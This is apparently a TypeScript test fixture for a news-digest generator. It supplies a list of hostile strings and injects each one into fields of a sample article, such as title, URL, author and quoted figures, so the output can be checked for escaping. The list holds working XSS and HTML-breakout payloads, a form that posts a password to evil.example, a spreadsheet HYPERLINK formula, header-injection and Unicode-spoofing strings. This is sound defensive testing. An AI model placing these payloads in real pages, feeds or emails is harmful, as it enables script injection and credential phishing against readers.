import type { Match } from '../../lib/classification/classification.ts';
import type { Coverage } from '../../lib/coverage/coverage.ts';
import type { Digest } from '../../lib/digest/digest.ts';
import { sampleCoverage, sampleFacts, sampleFigure, sampleWording } from './sample-coverage.ts';
import { sampleDigest } from './sample-digest.ts';

/** What a hostile feed or page may put into any text. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" style="position:fixed" x="',
  '</td></tr></table><h1>Breaking</h1>',
  '</title><script>alert(1)</script>',
  '</style><style>body{display:none}</style>',
  '<!-- --><iframe src="//evil.example">',
  ']]><!DOCTYPE html><html>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x&#62;',
  '\u202Egnp.exe\u202C\u2066hidden\u2069',
  'a\u200Bb\u2060c\uFEFFd\u00ADe\u{E0041}f',
  '\uD800 lone \uDC00 surrogates',
  '\u0000\u0008\u001B[31mred',
  `\`\${process.env.HOME}\` {{constructor}} <%= 1 %>`,
  'javascript:alert(1)//\r\nBcc: other@reader.example',
  `z${'\u0301'.repeat(500)}`,
  `${'<b>'.repeat(300)}${'A'.repeat(3000)}`,
  '<a href="https://evil.example/" target="_top">free</a>',
  '</h3></td><td><h3>second headline</h3>',
  '</p><p style="display:none">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--[if mso]><h1>Outlook</h1><![endif]-->',
  '<o:p>office</o:p><v:rect>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input name=password>',
  '<plaintext>',
  '<textarea>',
  '<select><option>',
  '<svg><script href=data:,alert(1) />',
  'expression(alert(1));background:url(https://evil.example/x)',
  '&quot;&gt;&lt;b&gt;',
  'https://evil.example/ www.evil.example tel:+4312345',
  '=HYPERLINK("https://evil.example/","x")',
  '\u202Eevil\u2069\u2069\u2068\u2067',
];

/** Where a payload is put, beside harmless words, so that the field is never empty. */
export const hostileFields: Record<string, (payload: string) => Partial<Coverage>> = {
  title: (payload) => ({ title: `Words ${payload}` }),
  outletName: (payload) => ({ outletName: `Words ${payload}` }),
  excerpt: (payload) => ({ excerpt: `Excerpt ${payload}` }),
  language: (payload) => ({ language: `de${payload}` }),
  url: (payload) => ({ url: `https://harbour-post.example/${payload}` }),
  'address with another scheme': (payload) => ({ url: `javascript:${payload}` }),
  author: (payload) => ({ author: `Words ${payload}` }),
  articleId: (payload) => ({ articleId: `id${payload.toWellFormed()}` }),
  'matched words': (payload) => ({
    matches: [{ ...(sampleCoverage().matches[0] as Match), words: `Words ${payload}` }],
  }),
  'key sentence': (payload) => ({ keySentences: [`Sentence ${payload}`] }),
  'figure in its own words': (payload) => ({ facts: factsOf({ words: `5,000 ${payload}` }) }),
  'credit of a figure': (payload) => ({ facts: factsOf({ creditedTo: `Words ${payload}` }) }),
  'name of a wording': (payload) => ({ facts: factsOf({}, `wording ${payload}`) }),
};

/** One figure and one wording, so that both sections stand. */
const factsOf = (figure: { words?: string; creditedTo?: string }, wording = 'massacre') =>
  sampleFacts({
    figures: [{ ...sampleFigure('5,000', 5000, 'executed', { name: 'Words' }), ...figure }],
    wordings: [sampleWording(wording)],
  });

const harmless: Partial<Coverage> = {
  title: 'Words',
  outletName: 'Words',
  excerpt: 'Excerpt of harmless words',
  language: 'de',
  facts: factsOf({}),
  keySentences: ['Sentence of harmless words'],
  matches: [{ ...(sampleCoverage().matches[0] as Match), words: 'Words' }],
};
const copy = sampleCoverage({ title: 'Another article that stays as it is', outletId: 'other.example' });
/** A harmless digest of two articles but for the changes to its first. */
export const digestOf = (changes: Partial<Coverage>): Digest =>
  sampleDigest('en', [sampleCoverage({ ...harmless, ...changes }), copy]);
